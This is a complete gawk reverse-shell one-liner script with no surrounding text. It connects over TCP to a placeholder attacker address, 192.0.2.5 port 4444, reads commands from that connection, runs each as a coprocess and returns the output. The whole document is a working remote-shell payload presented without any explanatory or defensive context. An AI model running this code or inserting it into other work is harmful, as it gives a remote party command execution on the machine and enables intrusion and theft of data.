BEGIN {
  s = "/inet/tcp/0/192.0.2.5/4444"
  while ((s |& getline c) > 0) {
    while ((c |& getline) > 0) print $0 |& s
    close(c)
  }
}
